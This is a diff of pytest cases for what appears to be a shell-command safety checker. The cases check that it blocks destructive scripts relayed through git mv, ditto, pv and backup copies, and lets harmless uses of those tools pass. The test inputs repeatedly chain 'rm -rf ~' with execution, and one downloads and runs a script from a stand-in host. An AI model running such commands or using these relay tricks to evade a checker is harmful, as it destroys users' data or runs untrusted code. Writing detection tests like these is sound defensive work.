@@ -108,3 +108,54 @@ def test_written_file_run_through_path(command: str) -> None:
 ])
 def test_path_neighbours_stay_as_before(command: str, verdict: Verdict) -> None:
     assert_verdict(command, verdict)
+
+
+@pytest.mark.parametrize("command", [
+    # git mv moves the work-tree file as mv does
+    _RM + "git mv /tmp/a /tmp/b; sh /tmp/b",
+    "echo 'rm -rf ~' > a.sh; git mv a.sh b.sh; sh b.sh",
+    "echo 'rm -rf ~' > a.sh && git mv -f -v a.sh scripts/ && bash scripts/a.sh",
+    "curl -so i.sh http://x.example/i && git add i.sh && git mv i.sh run.sh && ./run.sh",
+    # ditto copies like cp -R (files and trees)
+    _RM + "ditto /tmp/a /tmp/b; sh /tmp/b",
+    "echo 'rm -rf ~' > /tmp/d/a; ditto -V /tmp/d /tmp/e; sh /tmp/e/a",
+    "echo 'rm -rf ~' > /tmp/d/a; ditto --norsrc /tmp/d /tmp/e && . /tmp/e/a",
+    # pv prints its files or stdin like cat; -o writes them
+    _RM + "pv /tmp/a > /tmp/b; sh /tmp/b",
+    _RM + "pv -q -L 1m /tmp/a > /tmp/b; sh /tmp/b",
+    _RM + "pv -qL1m /tmp/a | tee /tmp/b >/dev/null; sh /tmp/b",
+    _RM + "pv -o /tmp/b /tmp/a; sh /tmp/b",
+    "echo 'rm -rf ~' | pv -N x > /tmp/b; bash /tmp/b",
+    # a backup keeps the old destination's text at DEST~ (or -S/--suffix, numbered)
+    "echo 'rm -rf ~' > /tmp/b; cp -b /tmp/c /tmp/b; sh /tmp/b~",
+    "echo 'rm -rf ~' > /tmp/b; mv --backup /tmp/c /tmp/b; sh /tmp/b~",
+    "echo 'rm -rf ~' > /tmp/b; cp --backup=simple --suffix=.old /tmp/c /tmp/b; sh /tmp/b.old",
+    "echo 'rm -rf ~' > /tmp/b; cp -S .bak -b /tmp/c /tmp/b; sh /tmp/b.bak",
+    "echo 'rm -rf ~' > /tmp/b; cp --backup=numbered /tmp/c /tmp/b; sh /tmp/b.~1~",
+    "echo 'rm -rf ~' > /tmp/b; VERSION_CONTROL=t cp -b /tmp/c /tmp/b; sh /tmp/b.~1~",
+    "echo 'rm -rf ~' > /tmp/b; install -b -m 755 /tmp/c /tmp/b; sh /tmp/b~",
+    "echo 'rm -rf ~' > /tmp/b; ln -sfb /tmp/c /tmp/b; sh /tmp/b~",
+    "echo 'rm -rf ~' > /tmp/b; rsync -ab /tmp/c /tmp/b; sh /tmp/b~",
+    "echo 'rm -rf ~' > /tmp/d/b; cp -b /tmp/c/b /tmp/d/; sh /tmp/d/b~",
+])
+def test_more_copiers_carry_text(command: str) -> None:
+    assert_verdict(command, Verdict.BLOCK)
+
+
+@pytest.mark.parametrize("command", [
+    "git mv src/old.py src/new.py",
+    "git mv -k docs/a.md docs/b.md && git commit -m 'rename'",
+    "echo 'rm -rf ~' > a; git mv -n a b; sh b",  # a dry run moves nothing
+    "echo 'rm -rf ~' > a; git mv a b; echo 'echo hi' > a; sh a",  # a new a
+    "cp -b config.yaml config.yaml.new",
+    "echo 'x: 1' > config.yaml; cp --backup=numbered new.yaml config.yaml; cat config.yaml.~1~",
+    "echo 'rm -rf ~' > /tmp/b; cp --backup=numbered /tmp/c /tmp/b; sh /tmp/b~",
+    "echo 'rm -rf ~' > /tmp/b; cp /tmp/c /tmp/b; sh /tmp/b~",  # no backup made
+    "ditto -c -k --sequesterRsrc --keepParent build/App.app App.zip",
+    "ditto src dst",
+    "pv -pterb dump.sql | mysql -u app appdb",
+    "pv backup.tar.gz | tar xzf - -C restore/",
+    "echo hi > /tmp/a; pv /tmp/a > /tmp/b; sh /tmp/b",
+])
+def test_copier_neighbours_stay_quiet(command: str) -> None:
+    assert_verdict(command, Verdict.PASS)
